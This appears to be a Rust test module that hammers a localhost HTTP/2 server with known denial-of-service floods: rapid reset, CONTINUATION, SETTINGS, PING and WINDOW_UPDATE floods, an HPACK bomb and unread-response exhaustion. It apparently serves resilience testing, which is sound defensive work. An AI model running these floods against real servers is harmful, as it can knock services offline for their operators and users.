//! HTTP/2, frame by frame (RFC 9113 §6), from clients without a certificate.

use std::sync::Arc;
use std::time::Duration;

use rustls::ClientConfig;
use tokio::io::{AsyncReadExt, AsyncWriteExt, split};
use tokio::net::TcpStream;
use tokio::time::{sleep, timeout};
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

use super::crowds::{connect, each};
use super::siege::{Force, Target, localhost};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// GET https://localhost/ in HPACK (RFC 7541): three entries of the static table, and a literal.
const GET: &[u8] = b"\x82\x87\x84\x41\x09localhost";
/// The same of /login.json.
pub(super) const DOCUMENT: &[u8] = b"\x82\x87\x44\x0b/login.json\x41\x09localhost";
const POST: &[u8] = b"\x83\x87\x84\x41\x09localhost";

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let head = [&length[1..], &[kind, flags], &stream.to_be_bytes()].concat();
    [&head, payload].concat()
}

fn begin(settings: &[u8]) -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, settings)].concat()
}

pub(super) fn with_http_2(mut config: ClientConfig) -> Arc<ClientConfig> {
    config.alpn_protocols = vec![b"h2".to_vec()];
    Arc::new(config)
}

pub(super) fn stranger(target: &Target) -> Arc<ClientConfig> {
    with_http_2(ClientConfig::clone(&target.stranger))
}

async fn shake(target: &Target, config: &Arc<ClientConfig>) -> Option<TlsStream<TcpStream>> {
    let stream = connect(target.https).await?;
    let connector = TlsConnector::from(config.clone());
    connector.connect(localhost(), stream).await.ok()
}

/// On some connections at a time, sends what comes next, given how many times that was before; reads what comes, and begins anew.
async fn flood(target: Arc<Target>, begin: Vec<u8>, blows: usize, next: fn(u32) -> Vec<u8>) {
    let config = stranger(&target);
    flood_with(4, config, target, begin, blows, Duration::ZERO, next).await;
}

/// The same of any client, on any number of connections; it may pause each time, and ends a connection where nothing comes next.
async fn flood_with(
    many: usize,
    config: Arc<ClientConfig>,
    target: Arc<Target>,
    begin: Vec<u8>,
    blows: usize,
    pause: Duration,
    next: fn(u32) -> Vec<u8>,
) {
    each(many, || {
        let (target, config, begin) = (target.clone(), config.clone(), begin.clone());
        async move {
            let Some(stream) = shake(&target, &config).await else {
                return;
            };
            let (mut reader, mut writer) = split(stream);
            let sending = async {
                writer.write_all(&begin).await?;
                for times in 0.. {
                    let blow = next(times);
                    if blow.is_empty() {
                        break;
                    }
                    writer.write_all(&blow).await?;
                    writer.flush().await?;
                    target.count(blows);
                    if !pause.is_zero() {
                        sleep(pause).await;
                    }
                }
                Ok(())
            };
            let _: std::io::Result<()> = tokio::select! {
                sent = sending => sent,
                _ = async { reader.read_to_end(&mut Vec::new()).await } => Ok(()),
            };
        }
    })
    .await;
}

/// The identifier of a client's stream.
fn stream(number: u32) -> u32 {
    number * 2 + 1
}

/// So many requests that are taken back at once, the next ones after those before.
fn taken_back(many: u32, times: u32) -> Vec<u8> {
    let reset = |number| {
        let id = stream(times * many + number);
        let asked = frame(HEADERS, END_STREAM | END_HEADERS, id, GET);
        [asked, frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())].concat()
    };
    (0..many).flat_map(reset).collect()
}

pub(super) async fn rapid_reset(target: Arc<Target>) {
    flood(target, begin(&[]), 100, |times| taken_back(100, times)).await;
}

/// The same of any client, and so few at a time that no connection ends for that.
pub(super) async fn slow_reset(config: Arc<ClientConfig>, target: Arc<Target>) {
    let pause = Duration::from_millis(2);
    flood_with(4, config, target, begin(&[]), 16, pause, |times| {
        taken_back(16, times)
    })
    .await;
}

pub(super) async fn continuation(target: Arc<Target>) {
    let first = frame(HEADERS, END_STREAM, 1, GET);
    let begin = [begin(&[]), first].concat();
    flood(target, begin, 1, |_| {
        // A literal that is not indexed, of 16 KiB.
        let field = [b"\x00\x01x\x7f\x81\x7e".as_slice(), &[b'y'; 16_256]].concat();
        frame(CONTINUATION, 0, 1, &field)
    })
    .await;
}

pub(super) async fn settings(target: Arc<Target>) {
    flood(target, begin(&[]), 100, |_| {
        frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]).repeat(100)
    })
    .await;
}

pub(super) async fn ping(target: Arc<Target>) {
    flood(target, begin(&[]), 100, |_| {
        frame(PING, 0, 0, &[0; 8]).repeat(100)
    })
    .await;
}

pub(super) async fn empty_data(target: Arc<Target>) {
    let begin = [begin(&[]), frame(HEADERS, END_HEADERS, 1, POST)].concat();
    flood(target, begin, 100, |_| frame(DATA, 0, 1, &[]).repeat(100)).await;
}

pub(super) async fn window_updates(target: Arc<Target>) {
    flood(target, begin(&[]), 100, |_| hundred_updates()).await;
}

fn hundred_updates() -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()).repeat(100)
}

/// The same on more connections than there are places, a thousand a second on each: more would only wait in the buffers of the system.
pub(super) async fn window_updates_on_all_places(target: Arc<Target>) {
    let config = stranger(&target);
    let (many, pause) = (everywhere(&target), Duration::from_millis(100));
    flood_with(many, config, target, begin(&[]), 100, pause, |_| {
        hundred_updates()
    })
    .await;
}

/// The same on a connection after another, which ends where it would be slowed.
pub(super) async fn window_updates_anew(target: Arc<Target>) {
    flood(target, begin(&[]), 100, |times| match times {
        0..10 => hundred_updates(),
        _ => Vec::new(),
    })
    .await;
}

/// As many requests as one may have, whose answers are not read, and then more of them, which are refused.
pub(super) async fn refused(target: Arc<Target>) {
    // SETTINGS_INITIAL_WINDOW_SIZE 0
    flood(target, begin(&[0, 4, 0, 0, 0, 0]), 100, |times| {
        (times * 100..(times + 1) * 100)
            .flat_map(|number| frame(HEADERS, END_STREAM | END_HEADERS, stream(number), GET))
            .collect()
    })
    .await;
}

/// Sends PINGs for so long; how many were answered.
pub(super) async fn answered(target: &Target, config: &Arc<ClientConfig>, time: Duration) -> usize {
    let (mut reader, mut writer) = split(shake(target, config).await.unwrap());
    let mut answers = Vec::new();
    let sending = async {
        let pings = frame(PING, 0, 0, &[0; 8]).repeat(100);
        writer.write_all(&begin(&[])).await?;
        loop {
            writer.write_all(&pings).await?;
        }
    };
    let ended: Result<std::io::Result<()>, _> = timeout(time, async {
        tokio::select! {
            sent = sending => sent,
            read = reader.read_to_end(&mut answers) => read.map(drop),
        }
    })
    .await;
    assert!(ended.is_err(), "it ended: {ended:?}");
    answers.len() / frame(PING, 0, 0, &[0; 8]).len()
}

/// An entry of 4,000 octets for the dynamic table, and then 15,000 times its index.
pub(super) async fn hpack_bomb(target: Arc<Target>) {
    flood(target, begin(&[]), 1, |times| {
        // 4,000 is 127 + 3,873, in groups of seven bits.
        let entry = [b"\x40\x01x\x7f\xa1\x1e".as_slice(), &[b'y'; 4000]].concat();
        let block = [GET, &entry, &[0xbe; 12_000]].concat();
        frame(HEADERS, END_STREAM | END_HEADERS, stream(times), &block)
    })
    .await;
}

/// On more connections than there are places, as many requests as one may make, and no room for the answers. Now and then a PING.
pub(super) async fn unread(target: Arc<Target>) {
    let config = stranger(&target);
    let many = everywhere(&target);
    never_read(target, config, GET, many).await;
}

/// More connections than there are places, where that is not too much for every run.
pub(super) fn everywhere(target: &Target) -> usize {
    match target.force {
        Force::Little => 64,
        Force::Much => 600,
    }
}

/// The same of any client.
pub(super) async fn never_read(
    target: Arc<Target>,
    config: Arc<ClientConfig>,
    request: &[u8],
    many: usize,
) {
    let requests = (0..64)
        .flat_map(|number| frame(HEADERS, END_STREAM | END_HEADERS, stream(number), request));
    // SETTINGS_INITIAL_WINDOW_SIZE 0
    let words: Vec<_> = begin(&[0, 4, 0, 0, 0, 0])
        .into_iter()
        .chain(requests)
        .collect();
    each(many, || {
        let (target, config, words) = (target.clone(), config.clone(), words.clone());
        async move {
            if let Some(mut stream) = shake(&target, &config).await
                && stream.write_all(&words).await.is_ok()
                && stream.flush().await.is_ok()
            {
                target.count(64);
                let mut buffer = [0; 4096];
                while stream.read(&mut buffer).await.is_ok_and(|read| read > 0) {}
            }
            sleep(Duration::from_secs(1)).await;
        }
    })
    .await;
}
